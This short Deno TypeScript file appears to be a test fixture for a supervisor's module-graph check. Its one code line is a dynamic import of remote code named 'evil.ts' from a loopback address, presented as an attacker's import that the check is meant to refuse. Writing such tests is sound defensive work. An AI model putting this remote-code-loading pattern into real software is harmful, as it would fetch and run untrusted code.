// Attacker: a literal remote import. The supervisor's graph check must refuse it.
// (On loopback, so that `deno check` of this file never leaves the machine.)
// deno-lint-ignore no-import-prefix
await import("http://127.0.0.1:9/evil.ts");
